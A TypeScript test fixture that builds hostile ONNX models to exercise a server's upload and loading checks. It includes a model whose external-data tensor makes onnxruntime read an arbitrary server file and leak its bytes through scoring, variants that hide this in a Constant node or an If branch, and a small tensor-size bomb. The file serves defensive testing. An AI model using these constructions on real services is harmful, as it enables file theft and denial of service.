// Hostile ONNX models, built directly with onnx-proto, for the upload and loading checks:
// external data that makes onnxruntime read a file of the server's, and tensor-size bombs.
import { onnx, type OnnxTypes as P } from '@/server/ml/onnx/proto';

const DOUBLE = 11;
const UINT8 = 2;
const INT64 = 7;

function valueInfo(name: string, elemType: number, dims: (number | string)[]): P.IValueInfoProto {
  return { name, type: { tensorType: { elemType, shape: { dim: dims.map((d) => (typeof d === 'number' ? { dimValue: d } : { dimParam: d })) } } } };
}

function model(graph: P.IGraphProto, opsets: [string, number][] = [['', 17]]): Uint8Array {
  return onnx.ModelProto.encode(
    onnx.ModelProto.create({ irVersion: 8, producerName: 'hostile', opsetImport: opsets.map(([domain, version]) => ({ domain, version })), graph }),
  ).finish();
}

/** A tensor whose bytes onnxruntime reads from `location` (resolved against its working folder). */
export function externalTensor(name: string, location: string, length: number): P.ITensorProto {
  return {
    name,
    dataType: UINT8,
    dims: [length],
    dataLocation: onnx.TensorProto.DataLocation.EXTERNAL,
    externalData: [
      { key: 'location', value: location },
      { key: 'offset', value: '0' },
      { key: 'length', value: String(length) },
    ],
  };
}

/**
 * Scores row i as byte x_i of the file at `location`: an input `x` (double [N,1]) indexes an
 * external-data initializer, so batch scoring a column 0..length-1 returns the file's bytes. A
 * second input `pad` (added to x; send 0) makes the model take one column per input, as batch
 * scoring requires.
 */
export function exfiltratingModel(location: string, length: number, where: 'initializer' | 'constant' | 'subgraph' = 'initializer'): Uint8Array {
  const secret = externalTensor('secret', location, length);
  const nodes: P.INodeProto[] = [];
  const initializer: P.ITensorProto[] = [];
  if (where === 'initializer') initializer.push(secret);
  else if (where === 'constant') nodes.push({ opType: 'Constant', output: ['secret'], attribute: [{ name: 'value', type: onnx.AttributeProto.AttributeType.TENSOR, t: secret }] });
  else {
    // The external tensor hides in the then-branch of an If whose condition is a constant true.
    initializer.push({ name: 'cond', dataType: 9, dims: [], int32Data: [1] });
    const branch = (t: P.ITensorProto): P.IGraphProto => ({
      name: 'branch',
      node: [{ opType: 'Constant', output: [`out_${t.name}`], attribute: [{ name: 'value', type: onnx.AttributeProto.AttributeType.TENSOR, t }] }],
      output: [valueInfo(`out_${t.name}`, UINT8, [length])],
    });
    const plain: P.ITensorProto = { name: 'zeros', dataType: UINT8, dims: [length], rawData: new Uint8Array(length) };
    nodes.push({
      opType: 'If',
      input: ['cond'],
      output: ['secret'],
      attribute: [
        { name: 'then_branch', type: onnx.AttributeProto.AttributeType.GRAPH, g: branch(secret) },
        { name: 'else_branch', type: onnx.AttributeProto.AttributeType.GRAPH, g: branch(plain) },
      ],
    });
  }
  nodes.push(
    { opType: 'Cast', input: ['secret'], output: ['secret_d'], attribute: [{ name: 'to', type: onnx.AttributeProto.AttributeType.INT, i: DOUBLE }] },
    { opType: 'Add', input: ['x', 'pad'], output: ['xp'] },
    { opType: 'Cast', input: ['xp'], output: ['idx'], attribute: [{ name: 'to', type: onnx.AttributeProto.AttributeType.INT, i: INT64 }] },
    { opType: 'Gather', input: ['secret_d', 'idx'], output: ['probability'] },
  );
  return model({ name: 'exfiltrate', node: nodes, initializer, input: [valueInfo('x', DOUBLE, ['N', 1]), valueInfo('pad', DOUBLE, ['N', 1])], output: [valueInfo('probability', DOUBLE, ['N', 1])] });
}

/** The 232-byte kind of bomb: ConstantOfShape of a constant [rows, cols] shape, folded when the session is created. */
export function constantOfShapeBomb(rows = 16384, cols = 16384): Uint8Array {
  return model({
    name: 'bomb',
    node: [
      { opType: 'ConstantOfShape', input: ['shape'], output: ['big'], attribute: [{ name: 'value', type: onnx.AttributeProto.AttributeType.TENSOR, t: { dataType: DOUBLE, dims: [1], doubleData: [1] } }] },
      { opType: 'ReduceSum', input: ['big'], output: ['total'], attribute: [{ name: 'keepdims', type: onnx.AttributeProto.AttributeType.INT, i: 0 }] },
      { opType: 'Mul', input: ['x', 'total'], output: ['probability'] },
    ],
    initializer: [{ name: 'shape', dataType: INT64, dims: [2], int64Data: [rows, cols] }],
    input: [valueInfo('x', DOUBLE, ['N', 1])],
    output: [valueInfo('probability', DOUBLE, ['N', 1])],
  });
}

/** A small, harmless model with one custom node / op, for the rest of the static checks. */
export function tinyModel(opts: { nodes?: P.INodeProto[]; initializer?: P.ITensorProto[]; opsets?: [string, number][]; inputDims?: (number | string)[] } = {}): Uint8Array {
  return model(
    {
      name: 'tiny',
      node: opts.nodes ?? [{ opType: 'Identity', input: ['x'], output: ['probability'] }],
      initializer: opts.initializer ?? [],
      input: [valueInfo('x', DOUBLE, opts.inputDims ?? ['N', 1])],
      output: [valueInfo('probability', DOUBLE, ['N', 1])],
    },
    opts.opsets,
  );
}
